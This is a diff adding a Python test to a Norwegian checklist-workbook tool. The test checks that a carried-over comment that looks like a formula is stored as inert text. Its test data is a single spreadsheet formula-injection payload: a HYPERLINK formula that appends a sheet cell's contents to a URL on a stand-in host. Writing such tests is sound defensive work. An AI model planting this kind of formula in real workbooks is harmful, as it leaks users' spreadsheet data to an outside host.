@@ -538,3 +538,24 @@ def test_a_carried_skjema_reads_the_same_after_libreoffice(
             if str(ws.cell(row=r, column=NOTE_COLUMN).value or "").startswith("Overført fra")
         )  # fmt: skip
         assert shows(ws.cell(row=row, column=status_col), CARRIED_FILL)
+
+
+def test_a_carried_text_that_looks_like_a_formula_stays_text(
+    tmp_path: Path, catalogues: dict[str, Catalogue]
+) -> None:
+    from statuskart.workbook.carry import CarriedAnswer, Carry, write_carried
+
+    typed = '=HYPERLINK("https://example.org/?u="&Forside!B7)'
+    answer = CarriedAnswer(requirement_id="TSB-06", status="Påbegynt", comment=typed)
+    carry = Carry(from_period="2026-T2", from_date=None, answers=(answer,))
+    meta = {"hf": "Eksempel HF", "unit": "Eksempelenheten", "period": "2026-T3"}
+    path = write_carried(catalogues["tsb"], tmp_path / "s.xlsx", meta, carry)
+    ws = openpyxl.load_workbook(path)[L.CHECKLIST_SHEET]
+    comment = ws.cell(
+        row=row_of(ws, "TSB-06"), column=[c.key for c in L.COLUMNS].index("comment") + 1
+    )
+    assert comment.data_type == "s" and comment.value == typed
+    (report,) = check_files([path], catalogues, TODAY)
+    assert report.carried is not None and report.carried.carried == 1
+    assert report.carried.changed == 0 and not report.carried.date_changed
+    assert [f.code for f in report.findings].count("carried-untouched") == 1
